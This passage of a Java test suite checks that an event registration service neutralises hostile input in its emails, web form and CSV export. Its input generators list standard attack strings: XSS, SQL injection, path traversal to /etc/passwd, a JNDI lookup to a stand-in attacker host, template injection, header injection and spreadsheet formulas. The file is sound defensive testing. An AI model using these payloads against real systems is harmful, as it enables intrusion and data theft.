        system.awaitEventPage(eventId);
        List<String> addresses = IntStream.range(0, 40)
                .mapToObj(i -> sample(REQUESTS + i, random -> {
                    Draw draw = new Draw(random, REQUESTS + i);
                    // Only the address is wanted; jqwik draws it as it draws a request.
                    return new Sent(seedOf(REQUESTS + i), REQUESTS + i, null, "POST", null, false, Map.of(), null,
                            draw.address());
                }).address())
                .toList();
        for (String address : addresses) {
            system.asOrganiser().body(Map.of("name", "Ana Quispe", "email", address))
                    .post(system.registration() + "/api/events/" + eventId + "/registrations")
                    .then().statusCode(201);
        }
        for (String address : addresses) {
            String mailed = asMailed(address);
            List<CapturedMail> mails = await().atMost(Duration.ofSeconds(60))
                    .until(() -> system.mailbox().to(mailed), list -> !list.isEmpty());
            assertThat(mails).as(address).hasSize(1);
            assertThat(mails.get(0).to()).as(address).singleElement().asString().isEqualToIgnoringCase(mailed);
        }
    }

    @Test
    void namesMadeToAttackTheirReadersComeOutHarmlessInTheEmailThePageAndTheExport() throws Exception {
        String eventId = system.createAndPublish("Hostile names " + run, LocalDate.now().plusDays(62).atTime(18, 0));
        String page = system.awaitEventPage(eventId);
        List<String> names = List.of(SCRIPT, HEADER_INJECTION, HYPERLINK, "+SUM(1,1)", "@cmd", "-2+3", LONG_UNICODE,
                UNICODE, RIGHT_TO_LEFT);

        Map<String, String> accepted = new LinkedHashMap<>();
        for (int i = 0; i < names.size(); i++) {
            String name = names.get(i);
            String byApi = "hostile-" + run + "-" + i + "-api@example.org";
            var api = system.asOrganiser().body(Map.of("name", name, "email", byApi))
                    .post(system.registration() + "/api/events/" + eventId + "/registrations");
            assertThat(api.statusCode()).as("%s by the API", name).isIn(201, 400);
            if (api.statusCode() == 201) {
                accepted.put(byApi, name);
            } else {
                assertThat(api.contentType()).startsWith("application/problem+json");
            }

            String byForm = "hostile-" + run + "-" + i + "-form@example.org";
            Document form = Jsoup.parse(given().get(page).then().statusCode(200).extract().asString());
            // From a documentation address (RFC 5737), in the header only: the stricter limit of forms sent
            // without a proof of work then counts these apart from every other test's, which come from here.
            var sent = given().contentType(FORM).header("X-Forwarded-For", "203.0.113." + (1 + (run.hashCode() & 0x7f)))
                    .formParam("name", name).formParam("email", byForm)
                    .formParam("formToken", form.select("input[name=formToken]").val())
                    .redirects().follow(false).post(page + "/registrations");
            assertThat(sent.statusCode()).as("%s by the form", name).isIn(303, 400);
            if (sent.statusCode() == 303) {
                accepted.put(byForm, name);
            } else {
                assertNoRawMarkup(sent.asString(), "the form shown again for " + name);
            }

            // The form shown again for a mistake elsewhere repeats the name: as text, never as markup.
            String again = given().contentType(FORM).formParam("name", name).formParam("email", "not-an-address")
                    .formParam("formToken", form.select("input[name=formToken]").val())
                    .redirects().follow(false).post(page + "/registrations").then().statusCode(400).extract()
                    .asString();
            assertNoRawMarkup(again, "the form shown again for " + name);
            if (name.equals(SCRIPT)) {
                assertThat(again).contains("&lt;script&gt;");
            }
        }
        // Names are free text: all of these are names someone may have, except the one with a line break and
        // the one over 200 characters.
        assertThat(accepted.values()).as("names taken")
                .contains(SCRIPT, HYPERLINK, "+SUM(1,1)", "@cmd", "-2+3", UNICODE, RIGHT_TO_LEFT)
                .doesNotContain(HEADER_INJECTION, LONG_UNICODE);

        for (Map.Entry<String, String> registrant : accepted.entrySet()) {
            CapturedMail mail = await().atMost(Duration.ofSeconds(120))
                    .until(() -> system.mailbox().to(registrant.getKey()), m -> !m.isEmpty()).get(0);
            String name = registrant.getValue();
            assertThat(mail.to()).as("recipients of the email to %s", name).containsExactly(registrant.getKey());
            assertThat(mail.headers()).as("headers of the email to %s", name).doesNotContainKeys("bcc", "cc");
            assertThat(mail.headers().values().stream().flatMap(List::stream))
                    .noneMatch(value -> value.contains("evil@example.org") || value.contains("\u202E"));
            assertNoRawMarkup(mail.html(), "the email to " + name);
            if (name.equals(SCRIPT)) {
                assertThat(mail.html()).contains("&lt;script&gt;alert(1)&lt;/script&gt;");
            }
            if (name.equals(RIGHT_TO_LEFT)) {
                // Isolated, so that the override cannot turn the words after the name around.
                assertThat(mail.text()).contains("\u2068" + name + "\u2069");
                assertThat(mail.html()).contains("\u2068" + name + "\u2069");
            }
        }
        assertThat(system.mailbox().to("evil@example.org")).isEmpty();

        String csv = system.asOrganiser().get(system.registration() + "/api/registrants/" + eventId).then()
                .statusCode(200).extract().asString();
        List<List<String>> rows = parseCsv(csv.startsWith("\uFEFF") ? csv.substring(1) : csv);
        for (List<String> row : rows) {
            for (String cell : row) {
                assertThat(cell.isEmpty() || FORMULA_STARTS.indexOf(cell.charAt(0)) < 0)
                        .as("a cell a spreadsheet would run: %s", cell).isTrue();
            }
        }
        for (Map.Entry<String, String> registrant : accepted.entrySet()) {
            String name = registrant.getValue();
            String expected = FORMULA_STARTS.indexOf(name.charAt(0)) >= 0 ? "'" + name : name;
            assertThat(rows).as("the export's row for %s", name)
                    .anySatisfy(row -> assertThat(row.subList(0, 2)).containsExactly(expected, registrant.getKey()));
        }
    }

    private static void assertNoRawMarkup(String html, String where) {
        assertThat(html).as(where).doesNotContain(SCRIPT).doesNotContain("<script>alert");
    }

    /** RFC 4180, as the export is written. */
    private static List<List<String>> parseCsv(String text) {
        List<List<String>> rows = new ArrayList<>();
        List<String> row = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < text.length() && text.charAt(i + 1) == '"') {
                    cell.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    cell.append(c);
                }
            } else if (c == '"') {
                quoted = true;
            } else if (c == ',') {
                row.add(cell.toString());
                cell.setLength(0);
            } else if (c == '\r' && i + 1 < text.length() && text.charAt(i + 1) == '\n') {
                row.add(cell.toString());
                cell.setLength(0);
                rows.add(row);
                row = new ArrayList<>();
                i++;
            } else {
                cell.append(c);
            }
        }
        if (cell.length() > 0 || !row.isEmpty()) {
            row.add(cell.toString());
            rows.add(row);
        }
        return rows;
    }

    // ---------------------------------------------------------------------------------------------------------
    // The generators

    /** jqwik's arbitraries for what an attacker or a broken client sends. */
    private static final class HostileInput {

        private static final List<String> NASTY = List.of("", " ", "null", "undefined", "0", "-1", "1e309", "NaN",
                "true", "[]", "{}", "../", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "%00", "\u0000",
                "a\u0000b", "\r\n", "line\r\nX-Injected: 1", "' OR '1'='1", "'; drop table registration; --",
                "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "${jndi:ldap://evil.example/a}",
                "{{7*7}}", "#{7*7}", "{#include x/}", "%s%s%s%n", "\u202Eevil", "\uFEFF", "\uD800", "\uDFFF",
                "👩‍👩‍👧🇧🇴", "e\u0301\u0302\u0303\u0304\u0305", "Ñandú", "日本語", "ﷺ", "\u0085",
                "\u2028",
                "file:///etc/passwd", "javascript:alert(1)", "http://localhost:1/", "-0", "9223372036854775808",
                "2026-02-30T25:61:00", "Europe/Atlantis", "+99:99", "=1+1", "@SUM(1)", "+cmd", "\t=cmd");

        static final Arbitrary<String> TEXT = Arbitraries.frequencyOf(
                Tuple.of(4, Arbitraries.of(NASTY)),
                Tuple.of(3, Arbitraries.strings().all().ofMaxLength(40)),
                Tuple.of(2, Arbitraries.strings().ascii().ofMaxLength(40)),
                Tuple.of(1, Arbitraries.integers().between(201, 3000).map("ǅ"::repeat)),
                Tuple.of(1, Arbitraries.integers().between(1000, 80_000).map("x"::repeat)),
                Tuple.of(1, Arbitraries.longs().map(String::valueOf)),
                Tuple.of(1, Arbitraries.doubles().map(String::valueOf)));

        /**
         * For the request line: the HTTP layer refuses one over 4096 bytes (414) before any of the services'
         * code sees it, so huge input goes in bodies instead.
         */
        static final Arbitrary<String> SHORT_TEXT = TEXT.filter(text -> text.length() <= 100);

        /** For headers, which cannot carry line breaks or most control characters. */
        static final Arbitrary<String> HEADER_TEXT = Arbitraries.strings().withCharRange(' ', '~').ofMaxLength(200);

        static final Arbitrary<String> PLAUSIBLE_NAME = Arbitraries.of("Ana Quispe", "Miriam Colque", "O'Brien",
                "Zoë Ñandú", "", "BO", "en", "es", "Europe/London", "America/La_Paz");

        /** A path segment, sent as it is: encoded text, or dot segments and escapes as an attacker writes them. */
        static final Arbitrary<String> PATH_SEGMENT = Arbitraries.frequencyOf(
                Tuple.of(5, SHORT_TEXT.map(FuzzingTest::encode)),
                Tuple.of(2, Arbitraries.of("..", "../..", "../../q/health", "%2e%2e", "..%2f..%2f",
                        "%2e%2e%2f%2e%2e%2f", "%00", "%2500", "%ff", "%c0%af", "%ef%bf%bf", ".", "%20", "a;b=c",
                        "x%0d%0aSet-Cookie:%20a=b", "00000000-0000-0000-0000-000000000000",
                        "ffffffff-ffff-ffff-ffff-ffffffffffff", "123", "-1", "0x1", "true",
                        "3fa85f64-5717-4562-b3fc-2c963f66afa", "3fa85f64-5717-4562-b3fc-2c963f66afa6a")),
                Tuple.of(2, Arbitraries.longs().tuple2()
                        .map(t -> new UUID(t.get1(), t.get2()).toString())),
                Tuple.of(1, Arbitraries.integers().between(300, 1500).map("a"::repeat)));

        private static final Arbitrary<JsonNode> JSON_SCALAR = Arbitraries.oneOf(
                TEXT.map(text -> (JsonNode) NODES.textNode(text)),
                Arbitraries.longs().map(n -> (JsonNode) NODES.numberNode(n)),
                Arbitraries.doubles().map(n -> (JsonNode) NODES.numberNode(n)),
                Arbitraries.of((JsonNode) NODES.booleanNode(true), NODES.nullNode(),
                        NODES.numberNode(new java.math.BigInteger("9".repeat(400))),
                        NODES.numberNode(new java.math.BigDecimal("1e-400"))));

        /**
         * A JSON value of any shape, garbage nested inside garbage, three levels deep. Built level on level:
         * jqwik's lazy arbitraries keep their depth in state that sampling from several threads corrupts.
         */
        static final Arbitrary<JsonNode> JSON_VALUE = nested(nested(nested(JSON_SCALAR)));

        private static Arbitrary<JsonNode> nested(Arbitrary<JsonNode> inner) {
            return Arbitraries.frequencyOf(
                    Tuple.of(3, JSON_SCALAR),
                    Tuple.of(1, inner.list().ofMaxSize(3).map(items -> {
                        ArrayNode array = NODES.arrayNode();
                        items.forEach(array::add);
                        return (JsonNode) array;
                    })),
                    Tuple.of(1, Arbitraries.maps(SHORT_TEXT, inner).ofMaxSize(3).map(fields -> {
                        ObjectNode object = NODES.objectNode();
                        fields.forEach(object::set);
                        return (JsonNode) object;
                    })));
        }

        /** A body that is not JSON at all, or JSON no parser should have to take. */
        static final Arbitrary<String> JSON_TEXT = Arbitraries.frequencyOf(
                Tuple.of(3, Arbitraries.of("", "{", "}", "{\"a\":", "[", "nul", "{\"name\":\"a\"",
                        "{'name': 'a'}", "{\"a\":1,}", "{\"a\":1}{\"b\":2}", "\u0000", "\uFEFF{}",
                        "{\"a\":\"\\uD800\"}",
                        "{\"a\":\"\\x\"}", "{\"a\":01}", "{\"a\":1e99999}", "{\"a\":-}", "[1,2", "\"just a string\"",
                        "{\"a\":" + "9".repeat(5000) + "}", "{\"email\":{\"$ne\":null}}", "{\"__proto__\":{}}")),
                Tuple.of(2, TEXT),
                Tuple.of(2, JSON_VALUE.map(JsonNode::toString)),
                Tuple.of(1, Arbitraries.integers().between(10, 5000).map(n -> "[".repeat(n) + "]".repeat(n))),
                Tuple.of(1, Arbitraries.integers().between(10, 2000)
                        .map(n -> "{\"a\":".repeat(n) + "1" + "}".repeat(n))),
                Tuple.of(1, Arbitraries.integers().between(1, 400)
                        .map(n -> "{" + "\"k\":1,".repeat(n) + "\"k\":2}")));

        /** A form body that is not one. */
        static final Arbitrary<String> RAW_FORM = Arbitraries.of("%", "%zz", "=&=&&", "a=%E0%A4%A", "name=%00",
                "&&&&", "a=b=c", "=", "name", "a=" + "%25".repeat(3000), "email=%FF%FE", "name=" + "x".repeat(70_000));
    }
}
